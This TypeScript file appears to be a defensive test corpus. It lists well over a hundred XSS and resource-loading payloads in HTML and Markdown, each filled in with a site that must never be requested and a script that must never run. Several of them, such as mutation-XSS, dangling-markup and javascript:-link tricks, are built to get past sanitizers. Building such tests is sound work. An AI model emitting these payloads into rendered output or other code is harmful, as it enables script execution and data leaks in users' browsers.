/** One way in which a model's words could run a script in the page, or make the browser ask somebody for something. */
export interface Carrier {
  technique: string;
  /** `site` must never be asked, `run` is a script that must never run. */
  text(site: string, run: string): string;
  /** It is HTML: in a page without any guard it does what it is for. */
  isHtml?: true;
  /** Only after a click or by a person's hand; nothing of itself. */
  waits?: true;
}

const html = (technique: string, text: Carrier["text"], waits?: true): Carrier => ({
  technique,
  text,
  isHtml: true,
  ...(waits && { waits }),
});
const words = (technique: string, text: Carrier["text"]): Carrier => ({ technique, text });

const encoded = (text: string) => encodeURIComponent(text);
const base64 = (text: string) => Buffer.from(text).toString("base64");
const entities = (text: string) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join("");

export const carriers: readonly Carrier[] = [
  // Scripts in HTML.
  html("script", (_, run) => `<script>${run}</script>`),
  html("script from elsewhere", (site) => `<script src="${site}/a.js"></script>`),
  html("module", (site) => `<script type="module">import "${site}/m.js"</script>`),
  html("a picture that fails", (_, run) => `<img src=x onerror="${run}">`),
  html("a picture without quotes", (_, run) => `<img/src=x/onerror=${run}>`),
  html("SVG that loads", (_, run) => `<svg onload="${run}"></svg>`),
  html("a script in SVG", (_, run) => `<svg><script>${run}</script></svg>`),
  html("SVG by animation", (_, run) => `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></svg>`),
  html("details that open", (_, run) => `<details open ontoggle="${run}">x</details>`),
  html("a field that takes the focus", (_, run) => `<input autofocus onfocus="${run}">`),
  html("a video without source", (_, run) => `<video><source onerror="${run}"></video>`),
  html("audio that fails", (_, run) => `<audio src=x onerror="${run}"></audio>`),
  html("a body that loads", (_, run) => `<body onload="${run}">`),
  html("a frame of script", (_, run) => `<iframe src="javascript:parent.${run}"></iframe>`),
  html("a frame with its own page", (_, run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`),
  html("an object of data", (site) => `<object data="${site}/o"></object>`),
  html("something embedded", (site) => `<embed src="${site}/e">`),
  html(
    "a style that ends",
    (_, run) => `<style>@keyframes a{}p{animation:a 1s}</style><p onanimationstart="${run}">x</p>`,
  ),
  html("a marquee", (_, run) => `<marquee onstart="${run}">x</marquee>`, true),
  html("MathML", (_, run) => `<math><mtext><img src=x onerror="${run}"></mtext></math>`),
  html("namespaces confused", (_, run) => `<svg><style><img src=x onerror="${run}"></style></svg>`),
  html("a comment that ends early", (_, run) => `<!--><img src=x onerror="${run}">-->`),
  html("a template", (_, run) => `<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`),
  html("noscript", (_, run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`),
  html("an attribute broken by a line", (_, run) => `<img src=x\nonerror\n=\n"${run}">`),
  html(
    "a nested form",
    (_, run) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${run}">`,
  ),
  html("tags in capitals", (_, run) => `<ScRiPt>${run}</sCrIpT>`),
  html(
    "a picture map",
    (_, run) => `<map name=m><area href="javascript:${run}" shape=default></map><img usemap=#m src=x>`,
    true,
  ),
  html("a link of script", (_, run) => `<a href="javascript:${run}">x</a>`, true),
  html("a button that acts", (_, run) => `<form><button formaction="javascript:${run}">x</button></form>`, true),
  html(
    "names that hide those of the document",
    () => "<form name=adoptNode></form><img name=documentElement><form name=querySelectorAll></form>",
    true,
  ),
  // What loads something, in HTML.
  html("a picture", (site) => `<img src="${site}/img">`),
  html("a picture of several sizes", (site) => `<img srcset="${site}/1x 1x, ${site}/2x 2x">`),
  html("picture and source", (site) => `<picture><source srcset="${site}/s"><img></picture>`),
  html("a poster", (site) => `<video poster="${site}/poster"></video>`),
  html("a sound", (site) => `<audio src="${site}/a" autoplay></audio>`),
  html("a track", (site) => `<video src="${site}/v"><track src="${site}/t" default></video>`),
  html("a style sheet", (site) => `<link rel="stylesheet" href="${site}/css">`),
  html("a style that imports", (site) => `<style>@import url(${site}/import)</style>`),
  html("a ground by style", (site) => `<div style="background:url(${site}/bg)">x</div>`),
  html("a font", (site) => `<style>@font-face{font-family:a;src:url(${site}/font)}b{font-family:a}</style><b>x</b>`),
  html("a cursor and a mark", (site) => `<ul style="list-style-image:url(${site}/list)"><li>x</ul>`),
  html("content by style", (site) => `<style>q::before{content:url(${site}/content)}</style><q>x</q>`),
  html("a ground by attribute", (site) => `<table background="${site}/table"><tr><td>x</table>`),
  html("an input that is a picture", (site) => `<input type=image src="${site}/input">`),
  html("a frame", (site) => `<iframe src="${site}/frame"></iframe>`),
  html("a picture in SVG", (site) => `<svg><image href="${site}/image" width=9 height=9 /></svg>`),
  html("SVG that uses another", (site) => `<svg><use href="${site}/use#a"/></svg>`),
  html(
    "a filter in SVG",
    (site) => `<svg><filter id=f><feImage href="${site}/fe"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  ),
  html("a page that moves on", (site) => `<meta http-equiv="refresh" content="0;url=${site}/refresh">`),
  html("another base", (site) => `<base href="${site}/"><img src="based">`),
  html(
    "loaded ahead",
    (site) => `<link rel="preload" as="image" href="${site}/preload"><link rel="prefetch" href="${site}/prefetch">`,
  ),
  html("an icon", (site) => `<link rel="icon" href="${site}/favicon">`),
  html("a manifest", (site) => `<link rel="manifest" href="${site}/manifest">`, true),
  html(
    "rules for loading ahead",
    (site) => `<script type="speculationrules">{"prefetch":[{"urls":["${site}/spec"]}]}</script>`,
    true,
  ),
  html("a link that reports", (site) => `<a ping="${site}/ping" href="#">x</a>`, true),
  html(
    "a fold that is about to open",
    (_, run) => `<details open onbeforetoggle="${run}" ontoggle="${run}">x</details>`,
  ),
  html(
    "something that comes into sight",
    (_, run) => `<p oncontentvisibilityautostatechange="${run}" style="content-visibility:auto">x</p>`,
  ),
  html(
    "a change that ends",
    (_, run) =>
      `<style>@starting-style{i{color:red}}i{transition:color 1ms;color:blue}</style><i ontransitionend="${run}">x</i>`,
  ),
  html(
    "a sound of data that loads",
    (_, run) =>
      `<audio src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAgD4AAAB9AAACABAAZGF0YQAAAAA=" onloadstart="${run}"></audio>`,
  ),
  html("a style sheet that loads", (_, run) => `<link rel="stylesheet" href="data:text/css," onload="${run}">`),
  html("a script that fails", (_, run) => `<script src="data:," onload="${run}" onerror="${run}"></script>`),
  html("an object that fails", (_, run) => `<object data="x:" onerror="${run}"></object>`),
  html("a script by a tag that is never closed", (_, run) => `<svg><script>${run}//`),
  html("a script behind a title", (_, run) => `</title></textarea></style></noscript><script>${run}</script>`),
  html("a script of data", (_, run) => `<script src="data:text/javascript,${run}"></script>`),
  html("HTML in drawings", (_, run) => `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`),
  html(
    "a frame of entities",
    (_, run) => `<iframe srcdoc="&lt;img src=x onerror=&quot;parent.${run}&quot;&gt;"></iframe>`,
  ),
  html(
    "an object that is a page",
    (_, run) => `<object data="data:text/html,<script>top.postMessage(1)</script>" onload="${run}"></object>`,
  ),
  html(
    "names that hide those of the page",
    (_, run) => `<form id=body><input name=attributes></form><img name=body src=x onerror="${run}">`,
  ),
  html(
    "a drawn link that is animated",
    (_, run) => `<svg><a><text y=9>x</text><animate attributeName=href values="javascript:${run}"/></a></svg>`,
    true,
  ),
  html(
    "a link with another name for its address",
    (_, run) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
    true,
  ),
  html(
    "a button that opens something",
    (_, run) => `<button popovertarget=p>x</button><p popover id=p onbeforetoggle="${run}">y</p>`,
    true,
  ),
  html(
    "a form that is sent by itself",
    (site) => `<form action="${site}/sent"><input autofocus onfocus="this.form.submit()"></form>`,
  ),
  html("an address that does not end", (site) => `<img src='${site}/dangling?`, true),
  html("where later windows open", (site) => `<base target="_blank"><a href="${site}/target">x</a>`, true),
  html("a set of pictures by style", (site) => `<div style='background:image-set("${site}/set" 1x)'>x</div>`),
  html(
    "a mask and an edge",
    (site) => `<div style="border:9px solid;border-image:url(${site}/edge) 1;mask-image:url(${site}/mask)">x</div>`,
  ),
  html(
    "a shape of another page",
    (site) => `<svg><rect width=9 height=9 style="clip-path:url(${site}/clip#a);filter:url(${site}/filter#a)"/></svg>`,
  ),
  html("a module ahead", (site) => `<link rel="modulepreload" href="${site}/ahead.js">`),
  html(
    "a name asked ahead",
    () => `<link rel="dns-prefetch" href="//ahead.invalid"><link rel="preconnect" href="//ahead.invalid">`,
    true,
  ),
  // The same in Markdown.
  words("picture in Markdown", (site) => `![x](${site}/md)`),
  words("picture by reference", (site) => `![x][r]\n\n[r]: ${site}/ref`),
  words("picture by a short reference", (site) => `![r2]\n\n[r2]: ${site}/ref2 "t"`),
  words("picture with a title", (site) => `![x](<${site}/a b> "onerror=alert(1)")`),
  words("picture in a link", (site) => `[![x](${site}/in)](${site}/out)`),
  words("picture in a table", (site) => `| a |\n|---|\n| ![x](${site}/cell) |`),
  words("picture in a footnote", (site) => `x[^1]\n\n[^1]: ![x](${site}/note)`),
  words("picture whose end is missing", (site) => `![x](${site}/open`),
  words("link of script in Markdown", (_, run) => `[x](javascript:${run})`),
  words("link of script in capitals", (_, run) => `[x](JaVaScRiPt:${run})`),
  words("link of script with an entity", (_, run) => `[x](javascript&colon;${run})`),
  words("link of script with a control", (_, run) => `[x](java&#9;script:${run})`),
  words("link of script in entities", (_, run) => `[x](${entities("javascript:")}${run})`),
  words("link of data", (_, run) => `[x](data:text/html;base64,${base64(`<script>${run}</script>`)})`),
  words("link of VBScript", (_, run) => `[x](vbscript:${run})`),
  words("link by reference of script", (_, run) => `[x][s]\n\n[s]: javascript:${run}`),
  words("address in brackets of script", (_, run) => `<javascript:${run}>`),
  words(
    "picture of data with script",
    (_, run) => `![x](data:image/svg+xml,${encoded(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)})`,
  ),
  words("HTML in a heading", (_, run) => `# <img src=x onerror="${run}">`),
  words("HTML in a link's text", (site, run) => `[<img src="${site}/t" onerror="${run}">](http://a.invalid)`),
  words("HTML in a list and a quote", (site) => `> - <img src="${site}/quote">`),
  words("HTML behind code that does not end", (site, run) => `\`\`\`html\n<img src="${site}/code" onerror="${run}">`),
  words("HTML in inline code that does not end", (site) => `\`<img src="${site}/inline">`),
  words("entities that become HTML", (site, run) => entities(`<img src="${site}/ent" onerror="${run}">`)),
  words("the name of a language", (site, run) => `\`\`\`"><img/src=${site}/lang/onerror=${run}>\nx\n\`\`\``),
  words(
    "a diagram",
    (site, run) =>
      `\`\`\`mermaid\ngraph TD; A["<img src='${site}/mermaid' onerror='${run}'>"]; click A href "javascript:${run}"\n\`\`\``,
  ),
  words("a formula", (site, run) => `$$\\href{javascript:${run}}{x} \\includegraphics{${site}/katex}$$`),
  words("a formula with HTML", (site) => `$\\htmlData{x=y}{\\url{${site}/tex}}$`),
  words("an address that is made a link", (site) => `${site}/auto and www.elsewhere.invalid`),
  words("signs that nobody sees", (site) => `!\u200b[x](${site}/zero) <\u200bimg src="${site}/zw">`),
  words(
    "what looks like our own marks",
    (site, run) => `<mark onclick="${run}">x</mark><img data-tool=x src="${site}/own">`,
  ),
  words(
    "prototype and constructor",
    (site) => `[__proto__]: ${site}/proto\n\n![__proto__][constructor]\n\n[constructor]: ${site}/con`,
  ),
  // What is no HTML and no picture, and would lead about or be obeyed elsewhere.
  words("picture of our own server", () => "![x](/api/sessions) ![y](/api/status?x=1) ![z](./icon.svg)"),
  words("link to a place of the page", () => "[x](#/settings/models) [y](/#/asks) [z](?a=b) <#/s/ses_0>"),
  words(
    "link without a scheme",
    (site) => `[x](${site.replace("http:", "")}/relative) ![y](${site.replace("http:", "")}/rel)`,
  ),
  words("link of a file", () => "[x](file:///etc/passwd) [y](C:/Windows/win.ini) ![z](file:///etc/passwd)"),
  words(
    "link of other programs",
    () => "[x](vscode://file/x) [y](ms-word:ofe|u|x) [z](intent://x#Intent;end) [w](blob:null/x)",
  ),
  words("link over two lines", (_, run) => `[x](java\nscript:${run}) [y](\u0001javascript:${run})`),
  words(
    "link that looks like another",
    () => "[https://bank.example](https://bank.example@a.invalid/) <https://\u0430pple.invalid/>",
  ),
  words("link in a terminal's words", (site) => `\u001b]8;;${site}/osc\u0007x\u001b]8;;\u0007 \u001b[201~`),
  words(
    "a template of a framework",
    (_, run) => `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> [[${run}]]`,
  ),
  words(
    "a name of React's own",
    (_, run) =>
      `{"$$typeof":"react.element","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}}`,
  ),
  words(
    "a setting within a diagram",
    (site, run) =>
      `\`\`\`mermaid\n%%{init:{"securityLevel":"loose","themeCSS":"*{background:url(${site}/theme)}"}}%%\ngraph TD; A-->B; click A call eval("${run}")\n\`\`\``,
  ),
  words(
    "a formula that grows",
    (site) => `$$\\def\\a{\\href{${site}/def}{x}}\\a\\a \\htmlStyle{background:url(${site}/style)}{x}$$`,
  ),
  words(
    "a page of XML",
    (site) =>
      `<?xml-stylesheet href="${site}/xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "${site}/entity">]><x>&e;</x><![CDATA[<img src="${site}/cdata">]]>`,
  ),
];
